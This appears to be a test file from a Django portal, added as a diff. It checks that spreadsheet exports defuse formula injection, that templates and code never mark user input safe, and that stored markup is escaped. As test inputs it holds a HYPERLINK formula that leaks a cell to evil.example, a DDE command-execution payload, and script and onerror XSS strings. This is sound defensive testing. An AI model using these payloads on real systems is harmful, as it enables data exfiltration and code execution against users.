@@ -1,0 +1,123 @@
+"""What the portal sends out cannot carry a user's input as code: spreadsheet exports neutralize
+formulas, templates never mark input safe, and every PDF goes through the restricted fetcher.
+
+The export check walks every URL as the office's administrator, so a new export that forgets
+`intlaffairs.spreadsheets.neutralized` is found here rather than in a user's Excel.
+"""
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.conf import settings
+from django.utils import translation
+
+from intlaffairs.spreadsheets import FORMULA_STARTS
+
+from ..factories import AgreementFactory, InstitutionFactory
+from ..test_url_policy import all_patterns, sample_objects, students_samples, url_for
+
+ROOT = Path(settings.BASE_DIR)
+SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats", "application/vnd.ms-excel")
+# Every URL that answers with a spreadsheet, and the formats it offers.
+EXPORTS = {"agreements:agreement_export": ("csv", "xlsx")}
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def project_files(pattern: str):
+    skip = {".venv", "node_modules", "staticfiles", "media", ".git", "tests"}
+    for path in ROOT.rglob(pattern):
+        if not skip.intersection(path.relative_to(ROOT).parts):
+            yield path
+
+
+def cells(response) -> list[str]:
+    if response["Content-Type"].startswith("text/csv"):
+        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        return [value for row in rows for value in row]
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
+
+
+def test_every_spreadsheet_the_portal_answers_with_is_a_known_export(client, administrator):
+    objects = sample_objects(administrator)
+    client.force_login(administrator)
+    found = set()
+    with translation.override("en"):
+        for pattern, namespace in all_patterns():
+            url = url_for(pattern, namespace, objects)
+            if url is None:
+                continue
+            response = client.get(url)
+            if response.get("Content-Type", "").startswith(SPREADSHEET_TYPES):
+                found.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)
+    assert found == set(EXPORTS), "a new export must be added to EXPORTS and tested below"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_exports_neutralize_every_formula_start(client, officer, file_format, start):
+    partner = InstitutionFactory(name_en=start + "cmd|' /C calc'!A0")
+    agreement = AgreementFactory(title_en=start + HOSTILE, title_fa=start + "1+1")
+    agreement.partners.add(partner)
+    client.force_login(officer)
+    response = client.get(f"/en/agreements/export/?format={file_format}")
+    assert response.status_code == 200
+    values = [value for value in cells(response) if isinstance(value, str)]
+    assert any(HOSTILE in value for value in values)  # the cell is there, defused
+    assert [value for value in values if value.startswith(FORMULA_STARTS)] == []
+
+
+def test_no_template_marks_input_safe():
+    """HTML templates never switch escaping off; plain-text e-mails may (they are not HTML)."""
+    unsafe = re.compile(r"\|\s*safe(seq)?\b|{%\s*autoescape\s+off|{%\s*filter\s+safe")
+    offenders = [
+        f"{path.relative_to(ROOT)}:{number}"
+        for path in project_files("*.html")
+        for number, line in enumerate(path.read_text().splitlines(), 1)
+        if unsafe.search(line)
+    ]
+    assert offenders == []
+    texts = list(project_files("*.txt"))
+    assert texts, "the e-mail templates were not found"
+
+
+def test_no_python_code_marks_text_safe_or_renders_pdfs_around_the_fetcher():
+    """`mark_safe` and friends appear nowhere; WeasyPrint is imported by `intlaffairs.pdf`
+    alone (whose fetcher reads only our static files) and by the benchmark that compares
+    the portal with plain WeasyPrint on the portal's own HTML."""
+    marks = re.compile(r"\b(mark_safe|SafeString|SafeData|format_html_join)\b")
+    weasyprint_allowed = {
+        Path("intlaffairs/pdf.py"),
+        Path("agreements/management/commands/bench_report.py"),
+    }
+    marked, weasy = [], []
+    for path in project_files("*.py"):
+        text = path.read_text()
+        relative = path.relative_to(ROOT)
+        if marks.search(text):
+            marked.append(str(relative))
+        if re.search(r"^\s*(from|import) weasyprint", text, re.M) and (
+            relative not in weasyprint_allowed
+        ):
+            weasy.append(str(relative))
+    assert marked == []
+    assert weasy == []
+
+
+def test_a_name_full_of_markup_is_shown_as_text(client, officer, make_user):
+    from incentives.models import Unit
+
+    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+    unit = Unit.objects.create(name_fa="دانشکده", name_en="School")
+    application = students_samples(make_user("applicant"), unit)["application"]
+    application.given_name, application.native_name = hostile, hostile
+    application.save()
+    client.force_login(officer)
+    for url in (f"/en/students/applications/{application.pk}/", "/en/students/applications/"):
+        html = client.get(url).content.decode()
+        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
+        assert "<script>alert(" not in html and "<img src=x" not in html
